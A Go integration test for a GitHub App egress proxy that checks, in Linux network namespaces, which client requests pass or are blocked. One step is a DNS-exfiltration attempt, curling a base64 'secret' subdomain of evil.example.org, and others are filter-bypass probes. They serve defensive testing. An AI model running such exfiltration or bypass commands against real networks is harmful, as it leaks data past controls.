//go:build linux

package main

import (
	"context"
	"errors"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"ghapp-proxy/githubtest"
)

// gateway is clients who do not know of the proxy, the proxy on their way, and the rest of the world.
type gateway struct {
	client, proxy, outside *namespace
	github                 *githubtest.Server
	home                   string // of the client
}

// blocks are the blocks of docs/transparent.md in a language, in their order.
func blocks(t *testing.T, language string) (texts []string) {
	t.Helper()
	page, err := os.ReadFile("docs/transparent.md")
	if err != nil {
		t.Fatal(err)
	}
	for _, m := range regexp.MustCompile("(?s)```"+language+"\n(.*?)```").FindAllStringSubmatch(string(page), -1) {
		texts = append(texts, m[1])
	}
	return texts
}

// newGateway sets up what the nth configuration and rules of the page say: the rules hold where the proxy is. The client is there
// as well, or else behind it.
func newGateway(t *testing.T, n int, behind bool) *gateway {
	t.Helper()
	for _, tool := range []string{"curl", "gh", "git", "ip", "nft", "nsenter", "openssl", "setpriv", "unshare"} {
		if _, err := exec.LookPath(tool); err != nil {
			if os.Getenv("GHAPP_PROXY_REQUIRE_CLIENTS") != "" {
				t.Fatal(err)
			}
			t.Skip(err)
		}
	}
	g := &gateway{proxy: newNamespace(t), outside: newNamespace(t)}
	g.client = g.proxy
	g.proxy.shell(t, `
		f=/proc/sys/net/ipv4/ip_forward; [ "$(cat $f)" = 1 ] || echo 1 >$f # as Docker has it
		ip link set lo up
		ip link add outside type veth peer name eth0 netns `+g.outside.path+`
		ip addr add 10.2.0.1/24 dev outside
		ip link set outside up
		ip route add default via 10.2.0.2`)
	g.outside.shell(t, `
		ip link set lo up
		ip addr add 10.2.0.2/24 dev eth0
		ip link set eth0 up
		ip route add default via 10.2.0.1`)
	if behind {
		g.client = newNamespace(t)
		g.proxy.shell(t, `
			ip link add agents type veth peer name eth0 netns `+g.client.path+`
			ip addr add 172.30.0.1/24 dev agents
			ip addr add fd00:30::1/64 dev agents nodad
			ip link set agents up`)
		g.client.shell(t, `
			ip link set lo up
			ip addr add 172.30.0.2/24 dev eth0
			ip addr add fd00:30::2/64 dev eth0 nodad
			ip link set eth0 up
			ip route add default via 172.30.0.1
			ip route add default via fd00:30::1`)
	}
	g.outside.within(t, func() (err error) {
		g.github, err = githubtest.Demo(githubtest.Options{Addr: "10.2.0.2:0"})
		return err
	})
	t.Cleanup(func() { g.github.Close() })
	g.serveOutside(t)
	g.serve(t, blocks(t, "toml")[n])
	rules := filepath.Join(t.TempDir(), "rules.nft")
	if err := os.WriteFile(rules, []byte(blocks(t, "nft")[n]), 0o600); err != nil {
		t.Fatal(err)
	}
	g.proxy.shell(t, "nft -f "+rules)
	return g
}

// serveOutside is a web server that egress lists, and that the client must not reach by itself.
func (g *gateway) serveOutside(t *testing.T) {
	t.Helper()
	var ln net.Listener
	g.outside.within(t, func() (err error) {
		ln, err = net.Listen("tcp", ":80")
		return err
	})
	server := &http.Server{ReadHeaderTimeout: time.Minute, Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintln(w, "outside", r.Host)
	})}
	go server.Serve(ln) // until it is closed
	t.Cleanup(func() { server.Close() })
}

// serve starts the proxy by a configuration of the page, as user 65532.
func (g *gateway) serve(t *testing.T, text string) {
	t.Helper()
	var err error
	if g.home, err = os.MkdirTemp("", "gateway-"); err != nil { // t.TempDir is closed to other users
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(g.home) })
	dir := filepath.Join(g.home, "proxy")
	if err := errors.Join(os.Mkdir(dir, 0o700), os.Chmod(g.home, 0o755)); err != nil {
		t.Fatal(err)
	}
	program := buildProgram(t, g.home)
	connect := connectTo(g.github) + `, "packages.example.org:80" = "10.2.0.2:80"`
	for name, text := range map[string]string{
		"ci-bot.pem": string(g.github.App("ci-bot").PrivateKeyPEM()), "github-ca.pem": string(g.github.CAPEM()),
		"config.toml": "plain_http = false\nstate_dir = \"state\"\n" + text + "\n[upstream]\nca_file = \"github-ca.pem\"\nconnect_to = { " + connect + " }\n",
	} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	if out, err := exec.Command("chown", "-R", "65532:65532", dir).CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	asProxy := []string{"setpriv", "--reuid", "65532", "--regid", "65532", "--clear-groups"}
	startProxy(t, g.proxy.command(context.Background(), append(asProxy, program, "serve", "--log-format", "text", "--config", filepath.Join(dir, "config.toml"))...))

	ca, err := g.proxy.command(t.Context(), append(asProxy, program, "ca", "--config", filepath.Join(dir, "config.toml"))...).Output()
	if err != nil {
		t.Fatal(err)
	}
	certs := filepath.Join(g.home, "certs")
	if err := errors.Join(os.Mkdir(certs, 0o755), os.WriteFile(filepath.Join(certs, "ca-certificates.crt"), ca, 0o644), os.WriteFile(filepath.Join(certs, "proxy.pem"), ca, 0o644),
		os.WriteFile(filepath.Join(g.home, "resolv.conf"), []byte("nameserver 10.96.0.10\nsearch default.svc.cluster.local cluster.local\noptions ndots:5\n"), 0o644)); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command("openssl", "rehash", certs).CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	if err := os.Mkdir(filepath.Join(g.home, "client"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Chown(filepath.Join(g.home, "client"), nobody, nobody); err != nil {
		t.Fatal(err)
	}
}

// asClient runs a shell's command as the client, whose system trusts the proxy and asks a resolver of the cluster, with no variable
// that says so.
func (g *gateway) asClient(t *testing.T, uid int, script string) (printed string, ok bool) {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
	defer cancel()
	cmd := g.client.command(ctx, "unshare", "--mount", "sh", "-euc", `
		mount --bind "$1/certs" /etc/ssl/certs
		mount --bind "$1/resolv.conf" /etc/resolv.conf
		cd "$1/client"
		exec setpriv --reuid `+strconv.Itoa(uid)+` --regid `+strconv.Itoa(uid)+` --clear-groups --no-new-privs sh -c "$2"`, "sh", g.home, script)
	cmd.Env = []string{
		"PATH=" + os.Getenv("PATH"), "HOME=" + filepath.Join(g.home, "client"), "GH_TOKEN=placeholder", "GIT_CONFIG_NOSYSTEM=1", "GIT_TERMINAL_PROMPT=0", "GH_NO_UPDATE_NOTIFIER=1", "NO_COLOR=1",
		"GIT_AUTHOR_NAME=a", "GIT_AUTHOR_EMAIL=a@example.com", "GIT_COMMITTER_NAME=a", "GIT_COMMITTER_EMAIL=a@example.com",
	}
	out, err := cmd.CombinedOutput()
	if exit := (*exec.ExitError)(nil); err != nil && (!errors.As(err, &exit) || ctx.Err() != nil) {
		t.Fatalf("%s: %v\n%s", script, err, out)
	}
	return string(out), err == nil
}

// step is what a client tries.
type step struct {
	name, script string
	works        bool
	prints       string
}

func (g *gateway) try(t *testing.T, steps []step) {
	t.Helper()
	for _, s := range steps {
		if tool, _, _ := strings.Cut(s.script, " "); !strings.HasPrefix(tool, "!") {
			if _, err := exec.LookPath(tool); err != nil && os.Getenv("GHAPP_PROXY_REQUIRE_CLIENTS") == "" {
				t.Logf("%s: %v", s.name, err)
				continue
			}
		}
		if printed, ok := g.asClient(t, nobody, s.script); ok != s.works || !regexp.MustCompile(s.prints).MatchString(printed) {
			t.Errorf("%s: %s: worked %v, want %v; want %q in\n%s", s.name, s.script, ok, s.works, s.prints, printed)
		}
	}
}

// atGateway works in any network that is led to the proxy, or does not.
var atGateway = []step{
	{"curl", "curl -sSf https://api.github.com/repos/acme/widgets", true, `"full_name": ?"acme/widgets"`},
	{"clone", "git clone -q https://github.com/acme/widgets", true, "^$"},
	{"push to its branch", "git -C widgets push origin HEAD:agent/fix", true, `\[new branch\] +HEAD -> agent/fix`},
	{"push to main", "git -C widgets push origin HEAD:main", true, "Everything up-to-date"},
	{"gh", "gh api repos/acme/widgets --jq .full_name", true, `^acme/widgets\n$`},
	{"node", `node --use-openssl-ca -e "fetch('https://api.github.com/repos/acme/widgets').then(r => r.json()).then(r => console.log(r.full_name))"`, true, `^acme/widgets\n$`},
	{"python", `/usr/bin/python3 -c "import json, urllib.request as u; print(json.load(u.urlopen('https://api.github.com/repos/acme/widgets'))['full_name'])"`, true, `^acme/widgets\n$`},
	{"another repository", "gh api repos/acme/rockets", false, "client agent is not granted the repository acme/rockets"},
	{"a name that is not listed", "curl -sS https://other.example.org", false, `curl: \(6\) Could not resolve host: other.example.org`},
	{"data in a name", "curl -sS https://c2VjcmV0.evil.example.org", false, `curl: \(6\)`},
	{"the address of GitHub", "curl -sSk --connect-to api.github.com:443:10.2.0.2:443 https://api.github.com/repos/acme/widgets -o /dev/null -w %{http_code}", true, "^200$"},
	{"another's address, by name", "curl -sSk --resolve other.example.org:443:10.2.0.2 https://other.example.org", false, "curl: .35. .*(access denied|handshake)"},
	{"no server name", "curl -sSk https://10.2.0.2", false, `curl: \(35\)`},
	{"an address of nobody", "curl -sSk https://198.18.99.99", false, `curl: \((35|56|7)\)`},
	{"another port", "curl -sS --connect-timeout 5 http://10.2.0.2:81", false, `curl: \(7\)`},
	{"UDP", `/usr/bin/python3 -c "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(20); s.connect(('10.2.0.2', 443)); s.send(b'x'); s.recv(1)"`, false, "ConnectionRefusedError|PermissionError"},
}

// Docker's case: the clients' network leads to the proxy, who is told by it.
func TestGateway(t *testing.T) {
	g := newGateway(t, 0, true)
	g.try(t, append(atGateway,
		step{"plain HTTP", "curl -sSf http://packages.example.org/", true, "^outside packages.example.org"},
		step{"by IPv6", "curl -sSf6 https://api.github.com/repos/acme/widgets -o /dev/null -w %{remote_ip}", true, "^fd67:6861:7070::"},
		step{"by IPv4", "curl -sSf4 https://api.github.com/repos/acme/widgets -o /dev/null -w %{remote_ip}", true, `^198\.18\.`},
		step{"HTTP to an address", "curl -sS http://10.2.0.2/", true, "ghapp-proxy: egress to 10.2.0.2:80 is not allowed"},
		step{"the proxy itself", "curl -sS --connect-timeout 5 http://172.30.0.1:8080/ca.pem", false, `curl: \(7\)`},
		step{"its transparent port", "curl -sS --connect-timeout 5 http://172.30.0.1:8443/", false, `curl: \(7\)`},
		step{"the host behind", "curl -sS --connect-timeout 5 http://10.2.0.1:80/", true, "ghapp-proxy: egress to 10.2.0.1:80 is not allowed"},
	))
	g.checkArrived(t)
}

// Kubernetes' case: client and proxy have one network, and the client is told by its user.
func TestSidecar(t *testing.T) {
	g := newGateway(t, 1, false)
	g.try(t, atGateway)
	if printed, ok := g.asClient(t, 65533, "curl -sS https://api.github.com/repos/acme/widgets"); ok || !strings.Contains(printed, "curl: (35)") {
		t.Errorf("as another user: %v, %s", ok, printed)
	}
	g.checkArrived(t)
}

// checkArrived sees that nothing of what is not granted got to GitHub, and no secret to the client.
func (g *gateway) checkArrived(t *testing.T) {
	t.Helper()
	for _, r := range g.github.Requests() {
		if strings.Contains(r.Path(), "rockets") {
			t.Errorf("%v arrived, about a repository that is not granted", r)
		}
	}
	if err := noSecrets(g.github, filepath.Join(g.home, "client"), ""); err != nil {
		t.Error(err)
	}
}
